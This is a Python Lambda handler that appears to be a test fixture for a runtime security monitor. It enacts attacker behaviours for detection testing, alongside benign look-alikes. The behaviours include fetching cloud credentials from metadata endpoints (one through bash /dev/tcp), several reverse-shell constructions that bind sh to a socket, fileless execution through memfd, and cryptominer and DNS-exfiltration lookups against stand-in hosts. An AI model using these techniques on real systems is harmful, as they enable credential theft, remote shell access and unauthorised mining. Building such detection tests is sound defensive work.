"""Acts as an attacker would on Lambda itself, and as functions do that are none."""

import ctypes
import glob
import os
import shutil
import socket
import stat
import subprocess
import sys
import urllib.request

WORLD = os.environ["WORLD"]
HERE = os.path.dirname(__file__)
SCRIPT = '#!/bin/sh\n: > "$1"\n'


def handler(event, context):
    return WAYS[event["way"]](f"{WORLD}/{event['made']}")


def started(address, kind=socket.SOCK_STREAM):
    """A connection that is begun, whether or not anyone answers."""
    with socket.socket(socket.AF_INET, kind) as client:
        client.setblocking(False)
        client.connect_ex(address)
    return "begun"


def sent(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        try:
            client.sendto(b'{"format": "json", "version": 1}\n{}', address)
        except (ConnectionRefusedError, PermissionError):
            raise
        except OSError:
            pass  # nobody is there
    return "begun"


def fetched(url):
    try:
        urllib.request.urlopen(url, timeout=0.2)
    except OSError as error:
        if "Hauberk" in str(error):
            raise
    return "begun"


def by_sdk(_):
    from botocore.utils import InstanceMetadataFetcher

    InstanceMetadataFetcher(timeout=0.1, num_attempts=1).retrieve_iam_role_credentials()


def of_sdk_elsewhere(path):
    """A file that is called as the SDK's is."""
    os.makedirs(f"{WORLD}/botocore", exist_ok=True)
    with open(f"{WORLD}/botocore/utils.py", "w") as file:
        file.write("def call(act, *arguments): return act(*arguments)\n")
    sys.path.insert(0, WORLD)
    try:
        names = {}
        with open(f"{WORLD}/botocore/utils.py") as file:
            exec(compile(file.read(), file.name, "exec"), names)
        return names["call"](started, ("169.254.170.2", 80))
    finally:
        sys.path.remove(WORLD)


def by_child(address):
    command = f"timeout 1 bash -c ': < /dev/tcp/{address}/80'"
    told = subprocess.run(command, shell=True, capture_output=True, text=True).stderr
    return "refused" if "refused" in told else "begun"


# --- A shell whose streams are a connection. ---


def connected(port):
    client = socket.create_connection(("127.0.0.1", port), timeout=5)
    client.settimeout(None)
    return client


def told_streams(start):
    """Gives a program what commands it; the listener is the other end."""

    def way(path):
        with socket.create_server(("127.0.0.1", 0)) as listener:
            with connected(listener.getsockname()[1]) as client:
                peer = listener.accept()[0]
                peer.sendall(f": > {path}\n".encode())
                peer.shutdown(socket.SHUT_WR)
                start(client)
                peer.close()
        return "ran"

    return way


def by_subprocess(client):
    run_streams(["sh"], stdin=client, stdout=client, stderr=client)


def run_streams(words, **streams):
    subprocess.run(words, check=True, **streams)


def by_inherited(client):
    """As in the lists of such shells: this process' own streams become the connection."""
    kept = [os.dup(number) for number in range(3)]
    try:
        for number in range(3):
            os.dup2(client.fileno(), number)
        if os.system("sh"):
            raise PermissionError("it was refused")
    finally:
        for number, file in enumerate(kept):
            os.dup2(file, number)
            os.close(file)


def by_fork(client):
    child = os.fork()
    if child == 0:
        try:
            for number in range(3):
                os.dup2(client.fileno(), number)
            os.execv("/bin/sh", ["sh"])
        finally:
            os._exit(13)
    if os.waitpid(child, 0)[1]:
        raise PermissionError("the child was refused")


def by_spawn(client):
    spawn([(os.POSIX_SPAWN_DUP2, client.fileno(), number) for number in range(3)])


def by_actions_of_a_generator(client):
    """They can be read once; the connection becomes the streams by way of another descriptor."""
    copied = [(client.fileno(), 200), (200, 0), (200, 1), (200, 2)]
    spawn((os.POSIX_SPAWN_DUP2, *pair) for pair in copied)


def spawn(actions):
    child = os.posix_spawn("/bin/sh", ["sh"], os.environ, file_actions=actions)
    if os.waitpid(child, 0)[1]:
        raise PermissionError("the child was refused")


def by_pair(path):
    """A helper that is spoken with over a pair of sockets."""
    ours, theirs = socket.socketpair()
    with ours, theirs:
        ours.sendall(f": > {path}\n".encode())
        ours.shutdown(socket.SHUT_WR)
        run_streams(["sh"], stdin=theirs, stdout=theirs, stderr=theirs)


def beside_connection(path):
    """A connection is open, and a program is started that has nothing to do with it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        with connected(listener.getsockname()[1]):
            return run([f"{HERE}/tool.sh", path])


# --- What is written, then run. ---


def program(path, text=SCRIPT):
    with open(path + ".program", "w") as file:
        file.write(text)
    os.chmod(path + ".program", stat.S_IRWXU)
    return path + ".program"


def run(words):
    subprocess.run(words, check=True)
    return "ran"


def written(path):
    return run([program(path), path])


def renamed(path):
    os.rename(program(path), path + ".other")
    return run([path + ".other", path])


def in_folder(path):
    """A program in a folder of its own, and where that is moved."""
    os.makedirs(path + ".folder/inside")
    program(path + ".folder/inside/a")
    return path + ".folder", path + ".moved"


def folder_renamed(path):
    before, after = in_folder(path)
    os.rename(before, after)
    return run([after + "/inside/a.program", path])


def folder_renamed_by_child(path):
    before, after = in_folder(path)
    run(["mv", before, after])
    return run([after + "/inside/a.program", path])


def linked(path):
    os.symlink(program(path), path + ".link")
    return run([path + ".link", path])


def by_shell(path):
    return run(["sh", program(path), path])


def by_system(path):
    if os.system(f"{program(path)} {path}"):
        raise PermissionError("the shell was refused")


def copied_by_child(path):
    run(["cp", f"{HERE}/tool.sh", path + ".copy"])
    return run([path + ".copy", path])


def run_by_child(path):
    """Both are a shell's, in one command that hides what it runs."""
    return run(
        ["sh", "-c", 'cp "$0" "$1.copy" && x="$1.copy" && "$x" "$1"', f"{HERE}/tool.sh", path]
    )


def downloaded_by_child(path):
    code = "import sys; open(sys.argv[2], 'w').write(open(sys.argv[1]).read())"
    run([sys.executable, "-I", "-c", code, f"{HERE}/tool.sh", path + ".copy"])
    os.chmod(path + ".copy", stat.S_IRWXU)
    return run([path + ".copy", path])


def from_memory(path):
    file = os.memfd_create("x", 0)
    with open(shutil.which("touch"), "rb") as source:
        os.write(file, source.read())
    child = os.posix_spawn(f"/proc/self/fd/{file}", ["x", path], {})
    os.waitpid(child, 0)
    os.close(file)


def library():
    return next(
        path
        for pattern in ("/lib/*/libm.so.6", "/lib64/libm.so.6", "/usr/lib/*/libm.so.6")
        for path in glob.glob(pattern)
    )


def loaded(path):
    shutil.copyfile(library(), path + ".so")
    ctypes.CDLL(path + ".so")
    open(path, "w").close()


def interpreted(path):
    program(path, "import sys; open(sys.argv[1], 'w').close()")
    return run([sys.executable, "-I", path + ".program", path])


def sourced(path):
    return run(["sh", "-c", '. "$0"', program(path, f": > {path}\n")])


# --- Look-alikes. ---


def deployed_tool(path):
    return run([f"{HERE}/tool.sh", path])


def folder_made(path):
    """A folder is made if it is not there, as is usual, and another one moved."""
    os.makedirs(HERE, exist_ok=True)
    os.mkdir(path + ".folder")
    os.rename(path + ".folder", path + ".moved")
    return run([f"{HERE}/tool.sh", path])


def data_of_tool(path):
    with open(path + ".data", "w") as file:
        file.write("data")
    run(["cp", path + ".data", path])
    run([sys.executable, "-I", "-c", "import sys; open(sys.argv[1]).read()", path + ".data"])
    run(["sh", f"{HERE}/tool.sh", path + ".other", path + ".data"])
    return run(["cat", path])


def result_of_tool(path):
    run([f"{HERE}/tool.sh", path + ".result"])
    os.rename(path + ".result", path)


def loaded_from_system(path):
    ctypes.CDLL(library())
    open(path, "w").close()


# --- What runs the function. ---


def changed(target):
    def way(_):
        try:
            with open(target, "a"):
                pass
        except PermissionError:
            raise
        except OSError:
            pass  # it cannot be written there
        return "begun"

    return way


def looked_up(name):
    def way(_):
        return socket.gethostbyname(name)

    return way


CARRIED = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f0.x.example.com"
WAYS = {
    "credentials_of_container": lambda _: started(("169.254.170.2", 80)),
    "credentials_of_instance": lambda _: fetched("http://169.254.169.254/latest/meta-data/"),
    "credentials_in_other_spelling": lambda _: started(("::ffff:169.254.169.254"[7:], 80)),
    "credentials_by_child": lambda _: by_child("169.254.170.2"),
    "credentials_of_sdk_elsewhere": of_sdk_elsewhere,
    "traces": lambda _: sent(("169.254.79.129", 2000)),
    "traces_connected": lambda _: started(("169.254.79.129", 2000), socket.SOCK_DGRAM),
    "credentials_by_sdk": by_sdk,
    "resolver": lambda _: started(("169.254.78.1", 53), socket.SOCK_DGRAM),
    "shell_by_subprocess": told_streams(by_subprocess),
    "shell_by_inherited_streams": told_streams(by_inherited),
    "shell_by_fork": told_streams(by_fork),
    "shell_by_spawn": told_streams(by_spawn),
    "shell_by_actions_of_a_generator": told_streams(by_actions_of_a_generator),
    "shell_by_pair": by_pair,
    "beside_connection": beside_connection,
    "written": written,
    "renamed": renamed,
    "folder_renamed": folder_renamed,
    "folder_renamed_by_child": folder_renamed_by_child,
    "linked": linked,
    "by_shell": by_shell,
    "by_system": by_system,
    "copied_by_child": copied_by_child,
    "run_by_child": run_by_child,
    "downloaded_by_child": downloaded_by_child,
    "from_memory": from_memory,
    "loaded": loaded,
    "interpreted": interpreted,
    "sourced": sourced,
    "deployed_tool": deployed_tool,
    "folder_made": folder_made,
    "data_of_tool": data_of_tool,
    "result_of_tool": result_of_tool,
    "loaded_from_system": loaded_from_system,
    "runtime_changed": changed("/var/runtime/hauberk_test.py"),
    "layer_changed": changed("/opt/python/hauberk_test.py"),
    "wrapper_changed": changed("/opt/hauberk/wrapper"),
    "bytecode_cached": changed("/opt/python/__pycache__/hauberk_test.pyc"),
    "pool": looked_up("xmr.pool.minexmr.com"),
    "time_pool": looked_up("pool.ntp.example"),
    "miner": lambda path: run([f"{HERE}/xmrig", path]),
    "miner_hidden": lambda path: run(
        [f"{HERE}/tool.sh", path, "-o", "stratum+tcp://203.0.113.7:443"]
    ),
    "carrier": looked_up(CARRIED),
    "long_name": looked_up("d111111abcdef8.cloudfront.net"),
    "validation_name": looked_up("_a79865eb4cd1a6ab990a45779b4e0b96.example.com"),
}
